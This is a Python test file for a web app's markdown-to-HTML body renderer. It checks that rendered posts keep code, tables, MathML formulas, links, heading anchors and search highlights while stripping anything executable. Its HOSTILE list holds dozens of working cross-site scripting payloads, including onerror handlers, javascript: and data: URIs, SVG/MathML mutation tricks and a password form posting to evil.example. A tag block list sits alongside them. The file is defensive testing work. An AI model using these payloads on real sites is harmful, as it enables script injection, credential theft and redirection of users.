"""Tests of the HTML of a post's body: what it shows, and that nothing in it runs."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markupsafe import escape

from indexer.sections import parse_body
from search_web.rendering import render_body
from tests.search_web.tags import Tags

# Whatever starts code or leads out of the text; none of it may be left over.
FORBIDDEN_TAGS = frozenset(
    """
    applet base button embed form frame iframe image img input link meta object script select style
    svg template textarea title use foreignobject annotation-xml annotation semantics video audio
    """.split()  # noqa: SIM905 - reads as a list
)
HOSTILE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<b onmouseover=alert(1) onclick='alert(2)'>text</b>",
    "<a href='javascript:alert(1)'>link</a>",
    "<a href=' &#106;avascript:alert(1)'>link</a>",
    "<a href='java\tscript:alert(1)'>link</a>",
    "<a href='vbscript:alert(1)'>link</a>",
    "[link](javascript:alert(1))",
    "[link](JaVaScRiPt:alert(1))",
    "[link](<javascript:alert(1)>)",
    "[link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<a href='data:text/html,<script>alert(1)</script>'>link</a>",
    "![picture](javascript:alert(1))",
    "![picture](data:image/svg+xml,<svg onload=alert(1)>)",
    '![" onerror="alert(1)](x.png)',
    "<javascript:alert(1)>",
    '[link](https://example.org/" "onmouseover=alert(1)")',
    "<style>body { display: none }</style>",
    "<p style='position:fixed;inset:0'>text</p>",
    "<div class='site unseen' id='page:q' style='color:red'>text</div>",
    "<iframe src='https://evil.example'></iframe>",
    "<object data='x.swf'></object><embed src='x.swf'>",
    "<form action='https://evil.example'><input name=password><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<math><maction actiontype='statusline#x' xlink:href='javascript:1'>x</maction></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\style{position:fixed}{x}$ $\class{site}{x}$",
    "$<script>alert(1)</script>$",
    "$$\n</math><script>alert(1)</script>\n$$",
    "$$x$$ (<script>alert(1)</script>)",
    "```html\n<script>alert(1)</script>\n```",
    '```" onmouseover="alert(1)\ncode\n```',
    "    <script>alert(1)</script>",
    "## <img src=x onerror=alert(1)> heading",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<table><tr><td style='x' class='site right'>x</td></tr></table>",
)


def assert_harmless(html: str) -> None:
    for tag, attributes in Tags(html).found:
        assert tag not in FORBIDDEN_TAGS
        for name, value in attributes.items():
            assert not name.startswith("on")
            assert name not in {"style", "src", "srcset", "xlink:href", "action", "formaction"}
            if name == "class":
                assert set((value or "").split()) <= {"wide", "formula", "right", "center"}
            if name == "href":
                scheme, colon, _ = (value or "").partition(":")
                assert not colon or scheme in {"http", "https", "mailto"} or "/" in scheme


@pytest.mark.parametrize("markdown", HOSTILE)
def test_nothing_hostile_is_left_over(markdown: str) -> None:
    assert_harmless(render_body(markdown))


@given(
    st.lists(
        st.sampled_from([*HOSTILE, "<", ">", '"', "'", "`", "$", "\n", "&#x3c;", "]]>", "-->"])
        | st.text(max_size=5),
        max_size=6,
    )
)
def test_no_mixture_of_hostile_pieces_gets_through(pieces: list[str]) -> None:
    assert_harmless(render_body("".join(pieces)))


def test_code_is_shown_as_it_was_written() -> None:
    html = render_body("```html\n<script>alert('x')</script> & more\n```\n\nInline `a < b`.")
    assert "<pre><code>&lt;script&gt;alert('x')&lt;/script&gt; &amp; more\n</code></pre>" in html
    assert "<code>a &lt; b</code>" in html


def test_a_table_keeps_its_cells_and_their_alignment_and_scrolls_by_itself() -> None:
    html = render_body("| Left | Mid | Right |\n|---|:-:|--:|\n| a | b | 1 |")
    tags = Tags(html)
    assert html.startswith('<div class="wide"><table>')
    assert tags.attribute("th", "class") == [None, "center", "right"]
    assert tags.attribute("td", "class") == [None, "center", "right"]


def test_inline_math_becomes_mathml() -> None:
    html = render_body(r"It costs $O(n^2)$ steps.")
    assert '<math display="inline">' in html
    assert "<msup><mi>n</mi><mn>2</mn></msup>" in html
    assert "$" not in html


@pytest.mark.parametrize(
    "markdown",
    ["$$\nx^2\n$$", "$$x^2$$", "$$\nx^2\n$$ (a label)", "In a sentence $$x^2$$ too."],
)
def test_display_math_becomes_a_block_that_scrolls_by_itself(markdown: str) -> None:
    html = render_body(markdown)
    assert '<span class="formula"><math display="block">' in html
    assert "<msup><mi>x</mi><mn>2</mn></msup>" in html
    assert "$" not in html


@pytest.mark.parametrize(
    ("latex", "mathml"),
    [
        (r"\binom{n}{k}", '<mfrac linethickness="0">'),
        (r"\mathrm{softmax}(x)", '<mi mathvariant="normal">s</mi>'),
        (r"\left(\frac{a}{b}\right)", 'stretchy="true"'),
        (r"a < b", "<mo>&lt;</mo>"),
        (r"\begin{aligned} a &= b \\ c &= d \end{aligned}", "<mtr>"),
        (r"\begin{cases} 0 & x < 1 \\ 1 & \text{else} \end{cases}", "<mtext>else</mtext>"),
        (r"\cancel{x}", "<menclose notation="),
        (r"\{a\}", '<mo stretchy="false">{</mo>'),
    ],
)
def test_what_gives_a_formula_its_meaning_is_kept(latex: str, mathml: str) -> None:
    assert mathml in render_body(f"${latex}$")


@pytest.mark.parametrize(
    "latex",
    [
        r"\frac{1",
        r"\frac{1}",
        r"\nosuchcommand{x}",
        r"\left( x",
        r"x^2^3",
        r"a & b",
        r"\begin{matrix} 1",
        "{" * 3000,
    ],
)
@pytest.mark.parametrize("fence", ["$", "$$"])
def test_latex_that_cannot_be_read_is_shown_as_it_was_written(latex: str, fence: str) -> None:
    html = render_body(f"{fence}{latex}{fence}")
    assert f"<code>{escape(latex)}</code>" in html
    assert "<math" not in html


def test_prices_are_no_formulas() -> None:
    assert "<math" not in render_body("It costs $5 today and $10 tomorrow.")


@pytest.mark.parametrize(
    ("target", "href"),
    [
        ("x.md", "/posts/x"),
        ("x.md#a", "/posts/x#a"),
        ("./x.md", "/posts/x"),
        ("../other/x.md#a-b", "/posts/x#a-b"),
        ("<x y.md>", "/posts/x%20y"),
        ("<a%3Fb.md>", "/posts/a%3Fb"),
        ("#a", "#a"),
        ("https://example.org/x.md", "https://example.org/x.md"),
        ("//example.org/x.md", "//example.org/x.md"),
        ("mailto:me@example.org", "mailto:me@example.org"),
    ],
)
def test_links_to_post_files_lead_to_their_pages_and_others_stay(target: str, href: str) -> None:
    assert Tags(render_body(f"[link]({target})")).attribute("a", "href") == [href]


def test_headings_carry_the_anchors_of_the_sections() -> None:
    body = (
        "Before.\n\n## Why `O(n^2)`?\n\n## Twice\n\n## Twice\n\n### Größe & Maß\n\n"
        "## <b>Raw</b> *stress*\n\n## !!!\n\nSetext\n------\n\n## Content\n\n## With $x^2$ in it\n"
    )
    anchors = [section.anchor for section in parse_body(body).sections if section.anchor]
    found = [
        attributes["id"] for tag, attributes in Tags(render_body(body)).found if tag[:1] == "h"
    ]
    assert len(anchors) == 9
    assert found == anchors


def test_a_picture_is_told_in_words() -> None:
    html = render_body("![A *rising* curve & more](curve.png)")
    assert html == "<p>A rising curve &amp; more</p>\n"


def test_raw_html_that_gives_meaning_is_kept() -> None:
    body = "x<sup>2</sup>, H<sub>2</sub>O, <kbd>Ctrl</kbd>\n\n<details><summary>More</summary>"
    html = render_body(body)
    for piece in ("<sup>2</sup>", "<sub>2</sub>", "<kbd>Ctrl</kbd>", "<summary>More</summary>"):
        assert piece in html


def test_strikethrough_lists_and_quotations_are_rendered() -> None:
    html = render_body("~~old~~\n\n3. three\n4. four\n\n- dot\n\n> quoted\n\n---\n")
    for piece in ("<s>old</s>", '<ol start="3">', "<ul>", "<blockquote>", "<hr>"):
        assert piece in html


def test_an_empty_body_gives_nothing() -> None:
    assert render_body("") == ""


def test_words_are_marked_in_text_but_not_in_code_formulas_or_addresses() -> None:
    body = "Caches, a *cache* and <b>x</b> & `cache` $cache$ [cached](https://cache.example)."
    html = render_body(body, frozenset({"cach"}))
    assert html.count("<mark>") == 3
    assert "<mark>Caches</mark>, a <em><mark>cache</mark></em>" in html
    assert "<code>cache</code>" in html
    assert 'href="https://cache.example"' in html
    assert "<mark>" not in render_body(body)


@given(st.text(), st.frozensets(st.sampled_from(["a", "script", "x", "cach"])))
def test_marks_change_nothing_but_marks(text: str, terms: frozenset[str]) -> None:
    marked = render_body(text, terms)
    assert marked.replace("<mark>", "").replace("</mark>", "") == render_body(text)
